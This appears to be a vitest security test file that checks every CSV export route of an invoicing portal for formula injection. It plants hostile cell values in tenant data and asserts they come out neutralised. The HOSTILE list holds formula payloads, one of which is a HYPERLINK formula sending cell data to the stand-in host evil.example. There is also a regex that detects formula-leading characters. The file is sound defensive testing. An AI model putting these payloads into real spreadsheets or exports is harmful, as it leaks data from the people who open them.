// Trust suite — CSV exports and formula injection (OWASP "CSV Injection"), on every route that
// answers a CSV: each GET route whose query takes format=csv is found in the server's own table,
// so a future export is covered the day it exists. Names come from someone else (a counterparty's
// invoice, an imported book): tenant A's are made formulas here, and no cell of any export may
// start like one.
import { afterAll, describe, expect, it } from 'vitest';
import type { RouteAccess } from '../plugins/access';
import type { AuthHeaders } from '../test/harness';
import { baseParts, urlOf } from './support/requests';
import { schemasOf } from './support/routes';
import { type Trust, createTrust } from './support/tenants';

const t: Trust = await createTrust({ invoices: 12 });
const owner: AuthHeaders = await t.session('u1');
afterAll(() => t.close());

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?d="&A1;"Ver factura")',
  '+SUM(1;2)',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '＝1+1',
];

/** GET routes whose query schema takes format=csv. */
const csvRoutes = (): RouteAccess[] =>
  t.h.app.routeTable.filter((r) => {
    if (r.method !== 'GET') return false;
    const q = schemasOf(r).querystring as { shape?: Record<string, unknown> } | undefined;
    const format = q?.shape?.format as { safeParse?(v: unknown): { success: boolean } } | undefined;
    return format?.safeParse?.('csv').success === true;
  });

/** The cells of a ';'-separated CSV, quotes undone (RFC 4180 with the portal's separator). */
function cells(text: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === ';' || ch === '\n') {
      out.push(cell.replace(/\r$/, ''));
      cell = '';
    } else cell += ch;
  }
  if (cell) out.push(cell);
  return out;
}

describe('CSV exports never carry a formula', () => {
  it('plants formula names in every name a counterparty gives tenant A', async () => {
    const { rows } = await t.h.db.query<{ id: number }>(
      'SELECT id FROM invoices WHERE business_id = $1 ORDER BY id',
      [t.a.id],
    );
    expect(rows.length).toBeGreaterThan(0);
    for (const [i, r] of rows.entries()) {
      const name = HOSTILE[i % HOSTILE.length]!;
      await t.h.db.query(
        'UPDATE invoices SET counterpart_name = $3, issuer_name = $3, receiver_name = $3 WHERE business_id = $1 AND id = $2',
        [t.a.id, r.id, name],
      );
    }
    const cps = await t.h.db.query<{ id: number }>('SELECT id FROM counterparts WHERE business_id = $1', [
      t.a.id,
    ]);
    for (const [i, r] of cps.rows.entries()) {
      await t.h.db.query(
        'UPDATE counterparts SET business_name = $3, fantasy_name = $4 WHERE business_id = $1 AND id = $2',
        [t.a.id, r.id, HOSTILE[i % HOSTILE.length], HOSTILE[(i + 1) % HOSTILE.length]],
      );
    }
  });

  it('finds the exports (sales and purchases, clients, providers when this was written)', () => {
    expect(csvRoutes().map((r) => r.url).length).toBeGreaterThanOrEqual(3);
  });

  for (const route of csvRoutes()) {
    it(`${route.method} ${route.url}?format=csv: every hostile name neutralised, none dropped`, async () => {
      const objects = await t.fresh(t.a);
      const parts = baseParts(route, objects);
      // Every row the export can give: format=csv and only the fields the schema requires, with
      // the values the suite's sample has for them.
      const schema = schemasOf(route).querystring as {
        safeParse(v: unknown): { success: boolean; error?: { issues: { path: PropertyKey[] }[] } };
      };
      const query: Record<string, unknown> = { format: 'csv' };
      for (let tries = 0; tries < 10; tries++) {
        const checked = schema.safeParse(query);
        if (checked.success) break;
        for (const issue of checked.error!.issues) {
          const key = String(issue.path[0]);
          query[key] = parts.query?.[key];
        }
      }
      const res = await t.inject({
        method: 'GET',
        url: urlOf(route, parts.params, query),
        headers: { ...owner, 'business-id': String(t.a.id) },
      });
      expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv/);
      const all = cells(res.body.replace(/^\uFEFF/, ''));
      const risky = all.filter(
        (c) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(c) && !/^-?\d+(,\d+)?$/.test(c),
      );
      expect(risky).toEqual([]);
      // The names are there, shown as text: the test saw what it plants.
      expect(
        all.some((c) => HOSTILE.some((h) => c === `'${h}`)),
        res.body.slice(0, 500),
      ).toBe(true);
    });
  }
});
